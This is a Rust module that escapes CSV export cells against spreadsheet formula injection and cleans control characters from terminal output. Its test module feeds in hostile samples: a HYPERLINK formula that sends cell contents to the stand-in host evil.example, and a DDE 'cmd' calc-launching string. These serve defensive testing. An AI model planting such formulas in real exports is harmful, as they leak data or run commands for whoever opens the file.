//! Escaping for exported files. Every table exports CSV, and its cells
//! carry untrusted text: tenant names, alarm reasons, log lines.
//! [`csv_field`] is the one way a cell is written.

/// One CSV cell (RFC 4180), safe to open in a spreadsheet.
///
/// - Formula injection (CWE-1236): a cell starting with `=`, `+`, `-`, `@`,
///   a tab or a carriage return would be run as a formula by Excel,
///   LibreOffice or Google Sheets (`=HYPERLINK(...)`, `@SUM(...)`). Such a
///   cell gets a leading `'`, which spreadsheets show as text, as OWASP
///   recommends. A number is a number, not a formula: `-3.5` or `+1` are
///   written as they are, so exported figures stay figures.
/// - A cell holding `,`, `"`, a line break or the `'` prefix is quoted, and
///   its `"` doubled.
pub fn csv_field(value: &str) -> String {
    let numeric = value.parse::<f64>().is_ok_and(f64::is_finite) && !value.starts_with(['\t', '\r']);
    let risky = !numeric && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let text = if risky { format!("'{value}") } else { value.to_string() };
    if risky || text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// One CSV record: the cells escaped, joined by `,`, ended by CRLF.
pub fn csv_record<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let mut line = cells.into_iter().map(csv_field).collect::<Vec<_>>().join(",");
    line.push_str("\r\n");
    line
}

/// Tenant-supplied text on a terminal: control characters (escape
/// sequences) are replaced, so a name cannot rewrite the screen.
pub fn clean(s: &str) -> String {
    s.chars().map(|c| if c.is_control() { '\u{FFFD}' } else { c }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
            ),
            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
            ("\t=1+1", "\"'\t=1+1\""),
            ("\r=1+1", "\"'\r=1+1\""),
        ];
        for (input, want) in cases {
            assert_eq!(csv_field(input), want, "{input:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_as_they_are() {
        for plain in ["-3.5", "+1", "0", "1e3", "acme", "Acme Corp", "a=b", "mail@example.com", ""] {
            assert_eq!(csv_field(plain), plain, "{plain:?}");
        }
        assert_ne!(csv_field("-inf"), "-inf", "not a finite number: neutralised");
        assert_ne!(csv_field("-NaN"), "-NaN");
    }

    #[test]
    fn separators_quotes_and_line_breaks_are_quoted() {
        assert_eq!(csv_field("Tyrell, Inc."), "\"Tyrell, Inc.\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_record(["acme", "=1+1", "3"]), "acme,\"'=1+1\",3\r\n");
    }
}
